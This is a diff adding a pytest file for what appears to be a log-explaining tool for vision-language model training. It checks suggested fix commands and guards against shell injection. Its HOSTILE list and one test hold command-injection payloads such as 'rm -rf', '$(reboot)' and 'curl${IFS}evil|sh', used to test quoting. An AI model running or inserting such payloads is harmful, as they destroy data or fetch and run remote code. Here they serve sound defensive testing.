@@ -1,0 +1,172 @@
+"""What is advised is what can be typed: values of the log in it, the step that fits first, no harm."""
+
+# ruff: noqa: E501
+from __future__ import annotations
+
+import shlex
+
+import pytest
+
+from tests.explain import compose
+from vlmguard.explain import flags, named, packages
+from vlmguard.explain.catalogue import load
+from vlmguard.explain.command import explain
+from vlmguard.explain.failure import Do
+from vlmguard.explain.logfacts import Facts
+from vlmguard.explain.show import text
+
+KNOWN = {known.code: known for known in load()}
+
+
+def steps(code: str, message: str, **facts: object) -> list[str]:
+    said = Facts(message=message, **facts)
+    return [flags.say(do, said) for do in KNOWN[code].remedies(said)]
+
+
+# class, message, framework, the beginning of the first step
+FIRST = {
+    "a missing package": ("VG552", "ModuleNotFoundError: No module named 'qwen_vl_utils'", "ms-swift", "python -m pip install qwen-vl-utils"),
+    "its name is another": ("VG552", "ModuleNotFoundError: No module named 'cv2'", "", "python -m pip install opencv-python-headless"),
+    "a stranger's name": ("VG552", "ModuleNotFoundError: No module named 'llava_utils'", "", "llava_utils is no package that is known here: cd to the repository"),
+    "a part that moved": ("VG552", "ModuleNotFoundError: No module named 'swift.llm'", "ms-swift", "python -m pip install 'ms-swift<4'"),
+    "a name": ("VG552", "ImportError: cannot import name 'EvalBackend' from 'evalscope.constants' (/x.py)", "", "python -m pip show evalscope"),
+    "a port": ("VG542", "DistNetworkError: port: 51216, useIpv6: false, code: -98, name: EADDRINUSE", "ms-swift", "MASTER_PORT=51217 in front of"),
+    "a port, accelerate": ("VG542", "DistNetworkError: port: 29500, name: EADDRINUSE", "accelerate", "accelerate launch --main_process_port 29501"),
+    "an old name": ("VG553", "TypeError: TrainingArguments.__init__() got an unexpected keyword argument 'evaluation_strategy'", "", "eval_strategy instead of evaluation_strategy"),
+    "no longer there": ("VG553", "TypeError: __init__() got an unexpected keyword argument 'overwrite_output_dir'", "TRL", "leave overwrite_output_dir out"),
+    "an unknown flag": ("VG553", "sft.py: error: unrecognized arguments: --lora_rnk 8", "ms-swift", "swift sft --help | grep -i lora_rnk"),
+    "a gated model": ("VG539", "OSError: You are trying to access a gated repo. Make sure to have access to it at https://huggingface.co/google/gemma-3-12b-it.", "", "ask for access on https://huggingface.co/google/gemma-3-12b-it"),
+    "no right to write": ("VG539", "HfHubHTTPError: 403 Client Error: Forbidden for url: https://huggingface.co/api/models/a/b/commit/main", "", "a token with the right to write"),
+    "a video": ("VG555", "DECORDError: ERROR opening: /data/v/a.mp4, Invalid data found", "", "ls -l /data/v/a.mp4"),
+    "a job": ("VG530", "slurmstepd: error: *** JOB 142382 ON n CANCELLED DUE TO TIME LIMIT ***", "", "sacct -j 142382"),
+    "open files": ("VG543", "RuntimeError: received 0 items of ancdata", "", "ulimit -n 65535"),
+    "a driver": ("VG537", "RuntimeError: The NVIDIA driver on your system is too old (found version 12020).", "", "python -m pip install --force-reinstall torch --index-url https://download.pytorch.org/whl/cu121"),
+    "no NCCL": ("VG537", "RuntimeError: Distributed package doesn't have NCCL built in", "", "python -c 'import torch; print(torch.__version__"),
+    "another libc": ("VG538", "ImportError: version GLIBC_2.32' not found (required by /e/lib/python3.10/site-packages/flash_attn_2_cuda.cpython-310.so)", "", "FLASH_ATTENTION_FORCE_BUILD=TRUE"),
+    "torchvision": ("VG538", "RuntimeError: operator torchvision::nms does not exist", "", "python -m pip install --force-reinstall --no-deps 'torchvision==0.N.*'"),
+    "a wrapper": ("VG586", "AttributeError: 'DistributedDataParallel' object has no attribute 'generate'", "", "accelerator.unwrap_model(model).generate"),
+    "vLLM's cache": ("VG512", "ValueError: No available memory for the cache blocks.", "TRL", "--vllm_gpu_memory_utilization 0.7"),
+    "replicas": ("VG512", "torch.OutOfMemoryError: Caught OutOfMemoryError in replica 0 on device 0. CUDA out of memory", "", "torchrun --nproc_per_node N"),
+    "padding": ("VG574", "ValueError: Asking to pad but the tokenizer does not have a padding token.", "TRL", "tokenizer.pad_token = tokenizer.eos_token"),
+    "a template": ("VG574", "ValueError: Template qwen3 does not exist.", "LLaMA-Factory", "python -m pip install -U llamafactory: qwen3"),
+    "accelerate's keys": ("VG575", "ValueError: had unknown keys (['lr_scheduler']), please try upgrading", "accelerate", "take lr_scheduler out"),
+    "nothing trains": ("VG507", "ValueError: optimizer got an empty parameter list", "", "print([n for n, p in model.named_parameters()"),
+    "too few positions": ("VG511", "RuntimeError: The size of tensor a (716) must match the size of tensor b (512) at non-singleton dimension 1", "", "truncation=True, max_length=512"),
+    "links, not images": ("VG505", "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=1, OpType=BROADCAST, NumelIn=1)", "", "NCCL_DEBUG=INFO"),
+    "a data loader's map": ("VG544", "RuntimeError: One of the subprocesses has abruptly died during map operation.", "LLaMA-Factory", "preprocessing_num_workers: 1"),
+    "ssh": ("VG536", "localhost: u@localhost: Permission denied (publickey,password).", "", "ssh NODE hostname"),
+    "a terminal": ("VG569", "Sending process 1 closing signal SIGHUP", "", "nohup COMMAND"),
+    "a Qwen-VL of before 4.52": ("VG570", "AttributeError: 'Qwen2_5_VLForConditionalGeneration' object has no attribute 'visual'", "", "python -m pip install 'transformers<4.52'"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FIRST)
+def test_the_first_step(name):
+    code, message, framework, first = FIRST[name]
+    assert steps(code, message, framework=framework)[0].startswith(first)
+
+
+def test_every_class_has_a_step_for_every_message():
+    """Steps that do not fit fall away; some are left, whatever the message says."""
+    for known in load():
+        for message in ("", "KeyError: 'x'", "wandb swanlab ssh: GPU json wrap Killed", *(e.text for e in known.examples)):
+            assert steps(known.code, message), known.code
+            assert all("{" + word + "}" not in said for said in steps(known.code, message) for word in named.wants(said))
+
+
+def test_sizes_are_those_that_fit():
+    said = "AssertionError: train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size 32 != 2 * 4 * 2"
+    assert '"train_batch_size": 16' in steps("VG547", said)[0]
+    said = "ValueError: Image features and image tokens do not match: tokens: 9752, features 10436"
+    assert int(steps("VG506", said)[0].partition("=")[2]) > 10436
+    said = "MaxLengthError: Current length of row(17391) is larger than the max_length(4096)."
+    assert int(steps("VG511", said)[0].partition("=")[2]) > 17391
+    graph = Facts(framework="TRL", micro=2, accumulation=8)
+    whole = [flags.say(do, graph) for do in KNOWN["VG514"].remedies(graph)][-1]
+    assert whole == "--per_device_train_batch_size 16 --gradient_accumulation_steps 1"
+
+
+def test_torchvision_of_this_torch():
+    said = Facts(message="operator torchvision::nms does not exist", releases={"torch": "2.6.0"})
+    assert "torchvision==0.21.*" in flags.say(KNOWN["VG538"].remedies(said)[0], said)
+
+
+HOSTILE = (
+    "ModuleNotFoundError: No module named 'x; rm -rf ~'",
+    "ModuleNotFoundError: No module named '--index-url=http://evil/simple'",
+    "FileNotFoundError: [Errno 2] No such file or directory: '/tmp/$(touch /tmp/x)'",
+    "FileNotFoundError: [Errno 2] No such file or directory: '/a b/`id`; echo'",
+    "FileNotFoundError: [Errno 2] No such file or directory: '-rf /'",
+    "OSError: gated repo https://huggingface.co/a/b;curl${IFS}evil|sh",
+    "RuntimeError: \x1b]0;x\x07port: 29500 \x1b[31m",
+    "sft.py: error: unrecognized arguments: --x;reboot",
+    "AttributeError: 'A;B' object has no attribute 'c$(d)'",
+)
+
+
+@pytest.mark.parametrize("message", HOSTILE)
+def test_a_value_is_one_word_of_a_shell(message):
+    values = named.of(Facts(message=message, model="/m;rm -rf /", said={"output_dir": "$(reboot)"}))
+    for name, value in values.items():
+        words = shlex.split(value)
+        assert len(words) == 1 or name == "numbers", (name, value)
+        assert value == shlex.quote(words[0]), (name, value)
+        assert not value.startswith("-") or name == "flag"
+        assert "\x1b" not in value
+
+
+def test_no_log_names_a_package_to_install():
+    """What is not in our own list is not installed by the name that a log gives."""
+    for module in ("evil", "requests2", "torch_npu_x", "numpy;x"):
+        told = steps("VG552", f"ModuleNotFoundError: No module named '{module}'")
+        assert not any(f"pip install {module}" in one for one in told)
+    assert packages.of("yaml") == "pyyaml"
+    assert packages.of("cv2.gapi") == "opencv-python-headless"
+
+
+def test_secrets_are_no_values():
+    said = Facts(message="port: 29500 No such file or directory: '/x/hf_abcdefghijklmnopqrstuvwx/y'", said={"output_dir": "/o/hf_abcdefghijklmnopqrstuvwx"})
+    assert not any("abcdefghij" in value for value in named.of(said).values())
+
+
+def test_steps_of_one_kind_and_words():
+    kinds = (Do("ls {path}", kind="a"), Do("ls FILE", kind="a"), Do("x", when=("left",)), Do("y", unless=("left",)))
+    assert Do("x", when=("a",)).fits("a b")
+    assert not Do("x", unless=("a",)).fits("a b")
+    assert [do.fits("left") for do in kinds] == [True, True, True, False]
+
+
+def test_images_are_not_blamed_where_nothing_sees():
+    """A hang of a run of which no argument and no model tells that it sees: look first."""
+    said = "[Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=7753, OpType=ALLREDUCE)"
+    assert steps("VG505", said)[0].startswith("PET_LOG_DIR=LOGS")
+    assert steps("VG505", said, model="Qwen/Qwen2.5-VL-7B-Instruct")[0].startswith("an image in every")
+    waits = "RuntimeError: Expected to have finished reduction in the prior iteration before starting a new one."
+    assert "find_unused_parameters" in steps("VG503", waits)[0]
+    assert "vision tower" in steps("VG503", waits, said={"max_pixels": "1"})[0]
+
+
+def test_contrastive_losses_know_the_micro_batch():
+    """FlagEmbedding's embedders take the other rows of the micro-batch as negatives."""
+    said = Facts(framework="FlagEmbedding", phase="forward", micro=8, accumulation=1)
+    do = KNOWN["VG512"].remedies(said)
+    assert flags.say(do[0], said) == "--gradient_checkpointing true"
+    assert any("in-batch negatives" in one.cost for one in do)
+
+
+def test_a_rule_is_named_with_what_it_sees(tmp_path):
+    path = tmp_path / "x.log"
+    path.write_text(compose.failing(1, "RuntimeError: Expected to have finished reduction in the prior iteration before starting a new one."))
+    said = text(*explain([str(path)]))
+    assert "sees it beforehand where the cause is one of these: VG106 (A tower" in said
+    path.write_text(compose.failing(1, "torch.OutOfMemoryError: CUDA out of memory."))
+    assert "has no rule that sees this beforehand" in text(*explain([str(path)]))
+
+
+def test_what_to_type_where_nothing_is_known(tmp_path):
+    (tmp_path / "slurm-4711.out").write_text(compose.preamble("TRL", 2) + "  5%|▌ | 5/100 [00:01<00:10, 1.0it/s]\n")
+    said = text(*explain([str(tmp_path / "slurm-4711.out")]))
+    assert "sacct -j 4711 --format" in said
+    assert "py-spy dump --pid $p" in said
+    (tmp_path / "words.log").write_text(compose.preamble("TRL", 2) + compose.DEEPSPEED.format(code=1))
+    assert "deepspeed --enable_each_rank_log=LOGS" in text(*explain([str(tmp_path / "words.log")]))
